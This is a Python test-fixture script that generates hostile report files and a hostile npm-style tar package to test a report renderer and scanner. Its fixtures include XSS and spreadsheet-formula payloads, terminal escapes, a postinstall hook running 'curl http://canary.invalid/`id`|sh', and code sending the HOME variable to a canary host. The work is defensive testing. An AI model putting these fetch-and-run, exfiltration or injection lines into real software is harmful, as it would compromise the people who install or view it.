#!/usr/bin/env python3
"""Hostile reports and a hostile product, for those who render them.

  make_hostile.py reports BASE.json OUT/   one report a family: OUT/FAMILY.json, in which every free text is
                                           hostile; and OUT/mixed.json, of all families
  make_hostile.py broken BASE.json OUT/    texts that are no report: they have to be refused
  make_hostile.py product OUT.tar          a product whose names and contents are hostile, to be scanned for real

BASE.json is a canonical report. Its numbers and orders stay, so that the arithmetic still holds; what the schema
calls optional and BASE has not is added, so that no field is left out; claims keep together under their new names."""
import io
import json
import os
import re
import sys
import tarfile

sys.dont_write_bytecode = True
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import hostile_texts  # noqa: E402

ROOT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "../..")
with open(os.path.join(ROOT, "plugin/report/probity-report-1.schema.json"), encoding="utf-8") as schema_file:
    SCHEMA = json.load(schema_file)
DEFS = SCHEMA["$defs"]
TEXT = "#/$defs/text"


class Maker:
    """Texts of one family, each with a number of its own."""

    def __init__(self, texts):
        self.texts, self.n = texts, 0

    def text(self, schema):
        form = self.texts[self.n % len(self.texts)]
        self.n += 1
        return form.format(n=self.n)[: schema.get("maxLength")]


def resolved(schema):
    while "$ref" in schema and schema["$ref"] != TEXT:
        schema = DEFS[schema["$ref"].rsplit("/", 1)[1]]
    return schema


def is_text(schema):
    """Free text: the schema's own, or a string that nothing but its length bounds."""
    plain = schema.get("type") == "string" and not {"pattern", "enum", "const"} & set(schema)
    return plain or schema.get("$ref") == TEXT


def made(schema, maker):
    """An instance with all its fields, hostile wherever it may be."""
    if is_text(schema):
        return maker.text(schema)
    schema = resolved(schema)
    if "const" in schema:
        return schema["const"]
    if "enum" in schema:
        return schema["enum"][maker.n % len(schema["enum"])]
    if "anyOf" in schema:
        return made(schema["anyOf"][-1], maker)
    kind = schema["type"]
    if kind == "object":
        return {k: made(v, maker) for k, v in schema["properties"].items()}
    if kind == "array":
        rows = [made(schema["items"], maker) for _ in range(max(2, schema.get("minItems", 0)))]
        return rows[:1] if schema.get("uniqueItems") and rows[0] == rows[1] else rows
    if kind == "integer":
        return min(max(schema.get("minimum", 0), 3), schema.get("maximum", 3))
    if kind == "boolean":
        return maker.n % 2 == 0
    return patterned(schema.get("pattern", ""))


VALUES = ("ab" * 32, "2026-11-20", "I-01", "unsigned", "P1", "DE", "integrity.no-pie", "1", "")


def patterned(pattern):
    for value in VALUES:
        if re.search(pattern, value):
            return value
    sys.exit("make_hostile: no value is known for the pattern " + pattern)


# These would change numbers, or say that others were meant.
SKIP = {".checks[].freshness", ".assessment.assessed", ".assessment.engine.clamav_db"}


def hostile(value, schema, maker, shape, claims):
    """value with every free text replaced, and with what the schema knows and value has not."""
    if is_text(schema):
        if shape in (".claims[].claim", ".checks[].claim"):
            if value not in claims:
                claims[value] = maker.text(schema)
            return claims[value]
        if shape == ".score.conditions[].what" and "." in value:
            return value  # names a check
        return maker.text(schema)
    schema = resolved(schema)
    if "anyOf" in schema:  # waived: null or a text
        return maker.text(schema) if value is not None or maker.n % 3 == 0 else None
    if schema.get("type") == "object":
        out = {}
        for key, sub in schema["properties"].items():
            if key in value:
                out[key] = hostile(value[key], sub, maker, shape + "." + key, claims)
            elif shape + "." + key not in SKIP:
                out[key] = made(sub, maker)
        return out
    if schema.get("type") == "array":
        rows = [hostile(v, schema["items"], maker, shape + "[]", claims) for v in value]
        if not rows and (is_text(schema["items"]) or shape in (".limits", ".statements")):
            rows = made(schema, maker)
        return rows
    return value


WORST_FIRST = ["critical", "high", "medium", "low", "info"]
ORDERS = {
    "claims": lambda c: (c["claim"].encode(), c["pillar"]),
    "findings": lambda f: (
        WORST_FIRST.index(f["severity"]), -f["kappa"], f["check"], f["key"].encode(), f["finding"].encode()),
    "limits": lambda x: ([e.encode() for e in x["path"]], x["why"].encode()),
    "waivers": lambda w: [w[k].encode() for k in (
        "document", "document_sha256", "check", "key", "sha256", "expires", "reason", "owner")],
    "evidence": lambda d: (d["name"].encode(), d["sha256"]),
}


def consistent(report):
    """What fields that were added say of each other."""
    rows = sorted(report["composition"]["rows"], key=lambda r: ([e.encode() for e in r["path"]], r["kind"].encode()))
    for row in rows:
        row["bytes"] = report["product"]["bytes"] // len(rows)
    rows[0]["bytes"] += report["product"]["bytes"] % len(rows)
    report["composition"]["rows"] = rows
    inventory = report["inventory"]
    inventory["hosts"] = sorted({e["host"] for e in inventory["endpoints"]}, key=str.encode)
    inventory["endpoints"] = [dict(e, host=host, regions=["DE"], by="address")
                              for host, e in zip(inventory["hosts"], inventory["endpoints"])]
    report["declared"].sort(key=lambda d: (d["what"].encode(), d["value"].encode()))
    for row in report["declared"]:
        row["declared"] = True


def in_order(report):
    """The orders that a canonical report has: they go by texts, which are others now."""
    for key, order in ORDERS.items():
        report[key] = sorted(report.get(key, []), key=order)
    for i, row in enumerate(report["statements"]):
        document = report["evidence"][i % len(report["evidence"])]
        row["document"], row["sha256"] = document["name"], document["sha256"]
    report["statements"].sort(key=lambda s: [s[k].encode() for k in (
        "document", "sha256", "claim", "check", "status", "why")])
    consistent(report)
    for f in report["findings"]:
        f["maps"] = sorted(set(f["maps"]), key=str.encode)
    return report


def canonical(report):
    return json.dumps(report, sort_keys=True, separators=(",", ":"), ensure_ascii=False)


def reports(base, folder):
    os.makedirs(folder, exist_ok=True)
    families = dict(hostile_texts.FAMILIES)
    columns = list(families.values())
    families["mixed"] = [t[i % len(t)] for i in range(max(map(len, columns)))
                         for t in columns if len(t[i % len(t)]) < 200]
    for name, list_of in families.items():
        report = hostile(base, SCHEMA, Maker(list_of), "", {})
        with open(os.path.join(folder, name + ".json"), "w", encoding="utf-8") as f:
            f.write(canonical(in_order(report)) + "\n")


def broken(base, folder):
    """Half of a surrogate pair, bytes that are no UTF-8, a NUL in a text, no report at all, too deep, cut off."""
    os.makedirs(folder, exist_ok=True)
    text = canonical(base).encode()
    name = json.dumps(base["product"]["name"], ensure_ascii=False).encode()
    place = b'"name":' + name
    cases = {
        "high-surrogate": text.replace(place, b'"name":"\\ud800x"'),
        "low-surrogate": text.replace(place, b'"name":"x\\udc00"'),
        "no-utf8": text.replace(place, b'"name":"\xff\xfe"'),
        "raw-surrogate": text.replace(place, b'"name":"\xed\xa0\x80"'),
        "nul": text.replace(place, b'"name":"\\u0000x"'),
        "raw-control": text.replace(place, b'"name":"\x01"'),
        "cut": text[: len(text) // 2],
        "deep": b'{"schema":"probity-report/1","product":' + b"[" * 5000 + b"]" * 5000 + b"}",
        "other": b'{"schema":"<script>probityCanary=1</script>"}',
        "list": b"[]",
        "empty": b"",
    }
    for case, content in cases.items():
        with open(os.path.join(folder, case + ".json"), "wb") as f:
            f.write(content)


# Contents that checks find something in, so that names and lines of them come into the report.
def contents(name):
    tail = (b'require("https").get("http://<b>x.canary.invalid/\x1b[31m?q=" + process.env.HOME);\n'
            b'eval(Buffer.from("Y2FuYXJ5", "base64").toString());\n')
    if name.rstrip(b" ").endswith(b".sh"):
        return b"#!/bin/sh\ncurl -s http://canary.invalid/<script>probityCanary=1</script> | sh\n# \x1b[2J =cmd|calc\n"
    first = b"// " + name.replace(b"\n", b" ").replace(b"\r", b" ")
    return first + b"\nconst password = '=cmd|<script>probityCanary=7</script>';\n" + tail


def product(out):
    package = {
        "name": "<script>window.probityCanary=8</script>", "version": "1.0.0-\u202e<b>",
        "description": "=cmd|' /C calc'!A0", "license": "[x](javascript:probityCanary=9)",
        "author": "\u001b[31m@octocat <a@canary.invalid>\n# EOF", "homepage": "javascript:probityCanary=10",
        "scripts": {
            "postinstall": "node '<img src=x onerror=probityCanary=11>.js' && curl http://canary.invalid/`id`|sh"},
        "dependencies": {"</td><script>probityCanary=12</script>": "1.0.0", "=1+1": "*"},
    }
    with tarfile.open(out, "w", format=tarfile.GNU_FORMAT, encoding="utf-8", errors="surrogateescape") as tar:
        def add(name, data):
            member = tarfile.TarInfo(name.decode("utf-8", "surrogateescape"))
            member.size, member.mode = len(data), 0o755
            tar.addfile(member, io.BytesIO(data))

        add(b"package/package.json", json.dumps(package).encode())
        for name in hostile_texts.NAMES:
            add(b"package/" + name, contents(name))
        folder = b"package/<b>" + hostile_texts.NAMES[13] + b"/"
        add(folder + b"=1+1/" + hostile_texts.NAMES[1], contents(b"x.js"))


def main():
    if len(sys.argv) == 3 and sys.argv[1] == "product":
        product(sys.argv[2])
    elif len(sys.argv) == 4 and sys.argv[1] in ("reports", "broken"):
        with open(sys.argv[2], encoding="utf-8") as f:
            base = json.loads(f.readline())
        (reports if sys.argv[1] == "reports" else broken)(base, sys.argv[3])
    else:
        sys.exit(__doc__)


if __name__ == "__main__":
    main()
